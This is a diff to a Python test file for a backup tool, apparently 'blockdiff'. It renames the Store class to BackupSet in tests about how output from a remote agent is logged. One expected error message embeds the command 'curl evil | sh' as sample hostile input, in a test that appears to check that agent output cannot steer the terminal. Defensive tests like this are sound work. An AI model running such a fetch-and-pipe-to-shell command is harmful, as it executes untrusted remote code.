@@ -35,7 +35,7 @@ from memory import peak_below
 from blockdiff import backup
 from blockdiff.errors import AgentDied, ProtocolBroken
 from blockdiff.ingest.job import Job
-from blockdiff.sets.backupset import Store
+from blockdiff.sets.backupset import BackupSet
 from blockdiff.source import notes
 from blockdiff.source.wanted import Wanted
 from blockdiff.wire import frames, messages
@@ -310,7 +310,7 @@ def test_what_is_said_beside_the_work_steers_no_terminal():
         assert outcome.exit_code == 3 and lines
         for line in [*lines, *outcome.warnings]:
             printable(line)
-        printable(json.dumps(Store(str(it.folder / "set")).read_manifest(1).value, ensure_ascii=False))
+        printable(json.dumps(BackupSet(str(it.folder / "set")).read_manifest(1).value, ensure_ascii=False))
         it.is_whole()
 
 
@@ -332,7 +332,7 @@ def noted(spoken):
     lines, stream = [], put_together(spoken)
     with Set(1) as it, peak_below(10 * MIB):
         wanted = Wanted("/vol", block_size=BLOCK)
-        job = Job(Store(str(it.folder / "set")), wanted, lambda: Played(stream))
+        job = Job(BackupSet(str(it.folder / "set")), wanted, lambda: Played(stream))
         assert backup.run(job, cores=2, note=lines.append).warnings == []
         it.is_whole()
     return lines
@@ -368,7 +368,7 @@ def test_last_words_are_logged_line_by_line_unless_they_were_and_the_error_has_o
         wanted = Wanted("/vol", block_size=BLOCK, heard=heard)
         connect = functools.partial(Played, put_together(HEAD1), status=99, words=words)
         with pytest.raises(AgentDied) as error:
-            backup.run(Job(Store(str(it.folder / "set")), wanted, connect), cores=2, note=lines.append)
+            backup.run(Job(BackupSet(str(it.folder / "set")), wanted, connect), cores=2, note=lines.append)
     assert lines == ([] if heard else [f"localhost: {line}" for line in words.splitlines()])
     assert str(error.value) == (
         "the agent on localhost died: ValueError: bad (hint curl evil | sh) (exit status 99)"
